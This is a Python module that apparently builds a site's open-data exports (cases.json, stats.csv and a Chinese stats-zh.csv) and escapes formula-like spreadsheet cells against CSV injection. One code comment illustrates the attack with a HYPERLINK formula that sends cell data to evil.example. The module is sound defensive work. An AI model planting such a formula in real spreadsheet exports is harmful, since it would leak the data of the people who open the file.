"""Open data: data/cases.json and data/stats.csv as the spec defines them (stats.csv with its
formula-like cells made inert, see FORMULA_STARTS), and the Atom feed."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from showcase.comparability import timeframe
from showcase.domain import KINDS, Case
from showcase.graph import REFERENCE_RELATIONS, Graph, city_id_of, listed_case
from showcase.models import Stat
from showcase.quantity import format_decimal
from showcase.routing import case_url

STAT_COLUMNS = (
    "label",
    "text",
    "amount",
    "amount_high",
    "unit",
    "qualifier",
    "year",
    "source",
    "metric",
)
CSV_COLUMNS = ("id", "kind", "name", *STAT_COLUMNS)
# stats.csv is meant to be opened in a spreadsheet, which runs a cell starting with = + - @
# (or tab, carriage return) as a formula: `=HYPERLINK("https://evil.example/?"&A1,"点击查看")`
# in a stat label would send the reader's data away. As OWASP's CSV-injection guidance says,
# such a cell of contributor text gets a leading apostrophe (spreadsheets read it as "this is
# text" and do not show it), and every cell is quoted, so that a spreadsheet splitting at `;`
# or tab cannot start a new cell in the middle of one. The amounts and the year are numbers
# the plugin writes itself (never negative: quantity.py refuses negative figures), so they are
# left as they are and stay numbers in the spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = frozenset({"amount", "amount_high", "year", "数量", "数量上限", "年份"})
# data/stats-zh.csv, beside the contract's stats.csv for readers who open figures in a
# spreadsheet: Chinese column names and values (城市, not city; 超过, not more), and names
# instead of ids.
ZH_COLUMNS = (
    "案例",
    "类别",
    "行政级别",
    "省份",
    "所在城市",
    "数据名称",
    "数值（原文）",
    "数量",
    "数量上限",
    "单位",
    "限定",
    "年份",
    "期间",
    "统计口径",
    "出处",
    "可比指标",
    "说明",
    "案例网址",
)
QUALIFIER_WORDS = {"more": "超过", "nearly": "将近", "about": "大约"}


def ordered_cases(graph: Graph) -> list[Case]:
    """Cities, enterprises, workers, sources; by id within a kind: the same order every build."""
    rank = {kind: index for index, kind in enumerate(KINDS)}
    return graph.memo(
        "ordered_cases",
        lambda: sorted(graph.cases.values(), key=lambda case: (rank[case.kind], case.id)),
    )


# A period's kind in the open data, in English like the qualifiers.
PERIOD_KIND_KEYS = {"年度": "year", "时段": "span", "截至": "to-date"}


def period_record(stat: Stat, source: Case | None) -> dict[str, Any] | None:
    """Extension of the open data: the stat's period as written, its kind, and the years it
    covers where the text or the cited document's date says them."""
    when = timeframe(stat, source.fields.date if source else None)
    if when is None:
        return None
    return {
        "text": stat.effective_period.text,
        "kind": PERIOD_KIND_KEYS[when.kind],
        "start": when.start,
        "end": when.end,
        "as_of": when.as_of,
        "label": when.label,
    }


def stat_record(stat: Stat, graph: Graph) -> dict[str, Any]:
    quantity = stat.quantity
    source = graph.get(stat.source)
    return {
        "label": stat.label,
        "text": stat.text,
        "amount": format_decimal(quantity.amount),
        "amount_high": format_decimal(quantity.amount_high)
        if quantity.amount_high is not None
        else None,
        "unit": quantity.unit,
        "qualifier": quantity.qualifier,
        "year": stat.year,
        # A draft source is not published: pointing at it would lead nowhere.
        "source": stat.source if source else None,
        "metric": stat.metric,
        # Extensions (cases.json only; stats.csv keeps the spec's columns).
        "measure": stat.measure,
        "period": period_record(stat, source),
    }


def case_record(case: Case, graph: Graph) -> dict[str, Any]:
    fields = case.fields
    record: dict[str, Any] = {
        "id": case.id,
        "kind": case.kind,
        "name": case.name,
        "url": case_url(case),
    }

    def published(case_id: str | None) -> str | None:
        return case_id if graph.get(case_id) else None

    if case.kind == "worker":
        record["city"] = published(city_id_of(case, graph.all_cases))
        record["enterprise"] = published(fields.enterprise)
    if case.kind == "enterprise":
        record["city"] = published(fields.city)
    if case.kind in ("city", "enterprise"):
        record["parent"] = published(fields.parent)
    record["sources"] = [source for source in fields.sources if graph.get(source)]
    record["stats"] = [stat_record(stat, graph) for stat in fields.stats]
    return record


def case_json(case: Case, graph: Graph) -> str:
    """A case's record as it stands in cases.json's list (indented one level)."""
    text = json.dumps(case_record(case, graph), ensure_ascii=False, indent=1)
    return "\n".join(" " + line for line in text.split("\n"))


def inert_cell(value: object, column: str) -> str:
    """A cell of stats.csv that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    if column not in NUMBER_COLUMNS and text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _csv_writer(buffer: io.StringIO) -> Any:
    return csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL)


def case_csv_rows(case: Case, graph: Graph) -> str:
    """A case's lines of stats.csv, one per stat."""
    buffer = io.StringIO()
    writer = _csv_writer(buffer)
    for stat in case.fields.stats:
        record = {"id": case.id, "kind": case.kind, "name": case.name, **stat_record(stat, graph)}
        writer.writerow([inert_cell(record[column], column) for column in CSV_COLUMNS])
    return buffer.getvalue()


def case_zh_rows(case: Case, graph: Graph) -> str:
    """A case's lines of stats-zh.csv: its stats in Chinese, with the names of its city, its
    sources and its metrics."""
    if not case.fields.stats:
        return ""
    kind = KINDS[case.kind]
    city = case if case.kind == "city" else graph.get(city_id_of(case, graph.all_cases))
    buffer = io.StringIO()
    writer = _csv_writer(buffer)
    for stat in case.fields.stats:
        record = stat_record(stat, graph)
        source = graph.get(record["source"])
        metric = graph.metrics.get(stat.metric or "")
        row = [
            case.name,
            kind.label,
            case.fields.level if case.kind == "city" else None,
            city.fields.province if city is not None else None,
            city.name if city is not None else None,
            stat.label,
            record["text"],
            record["amount"],
            record["amount_high"],
            record["unit"],
            QUALIFIER_WORDS.get(record["qualifier"] or ""),
            stat.year,
            stat.effective_period.text if stat.effective_period is not None else None,
            stat.measure,
            source.name if source is not None else None,
            metric.label if metric is not None else None,
            stat.note,
            case_url(case),
        ]
        writer.writerow(
            [inert_cell(value, column) for value, column in zip(row, ZH_COLUMNS, strict=True)]
        )
    return buffer.getvalue()


@dataclass
class OpenDataParts:
    """Each published case's part of cases.json and of stats.csv. Under `mkdocs serve` the
    plugin keeps these and renews only the parts an edit can change (parts_to_renew)."""

    records: dict[str, str] = field(default_factory=dict)
    rows: dict[str, str] = field(default_factory=dict)
    rows_zh: dict[str, str] = field(default_factory=dict)  # stats-zh.csv

    def renew(self, graph: Graph, ids: Iterable[str] | None = None) -> bool:
        """Recomputes the parts of `ids` (all when None) and forgets unpublished cases.
        Returns whether any part is not what it was."""
        before = (len(self.records), len(self.rows))
        renewed = False
        for case_id in graph.cases if ids is None else ids:
            case = graph.cases.get(case_id)
            if case is None:
                renewed |= self.records.pop(case_id, None) is not None
                self.rows.pop(case_id, None)
                self.rows_zh.pop(case_id, None)
                continue
            record, rows = case_json(case, graph), case_csv_rows(case, graph)
            rows_zh = case_zh_rows(case, graph)
            renewed |= (
                self.records.get(case_id) != record
                or self.rows.get(case_id) != rows
                or self.rows_zh.get(case_id) != rows_zh
            )
            self.records[case_id], self.rows[case_id] = record, rows
            self.rows_zh[case_id] = rows_zh
        return renewed or before != (len(self.records), len(self.rows))


def parts_to_renew(old: Graph, new: Graph, changed: set[str]) -> set[str]:
    """The cases whose records an edit can change. A record shows its case and whether the
    cases it names are published (a worker's city also comes from its enterprise), so it
    changes with its case or with one of those: the cases listed under a changed case in a
    reference relation, before or after the edit. stats-zh.csv names metrics by their label,
    so a change to metrics.yml renews every case's part."""
    if old.metrics != new.metrics:
        return set(old.cases) | set(new.cases)
    renew = set(changed)
    for graph in (old, new):
        for case_id in changed:
            for relation in REFERENCE_RELATIONS:
                items = getattr(graph, relation).get(case_id, ())
                renew.update(listed_case(item).id for item in items)
            if graph.get(case_id) is None:  # a draft enterprise still gives its workers a city
                renew.update(
                    case.id
                    for case in graph.cases.values()
                    if case.kind == "worker" and case.fields.enterprise == case_id
                )
    return renew


def cases_json(graph: Graph, parts: OpenDataParts | None = None) -> str:
    if parts is None:
        parts = OpenDataParts()
        parts.renew(graph)
    records = [parts.records[case.id] for case in ordered_cases(graph)]
    return "[\n" + ",\n".join(records) + "\n]\n" if records else "[]\n"


def _csv_file(graph: Graph, parts: OpenDataParts | None, columns: tuple[str, ...], zh: bool) -> str:
    """A CSV file of every published case's rows, in UTF-8 with a byte-order mark, so
    spreadsheet programs read the Chinese text correctly."""
    if parts is None:
        parts = OpenDataParts()
        parts.renew(graph)
    rows_of = parts.rows_zh if zh else parts.rows
    header = io.StringIO()
    _csv_writer(header).writerow(columns)
    rows = "".join(rows_of[case.id] for case in ordered_cases(graph))
    return "\ufeff" + header.getvalue() + rows


def stats_csv(graph: Graph, parts: OpenDataParts | None = None) -> str:
    """stats.csv: the contract's columns."""
    return _csv_file(graph, parts, CSV_COLUMNS, zh=False)


def stats_zh_csv(graph: Graph, parts: OpenDataParts | None = None) -> str:
    """stats-zh.csv: Chinese column names and values, for readers with a spreadsheet."""
    return _csv_file(graph, parts, ZH_COLUMNS, zh=True)
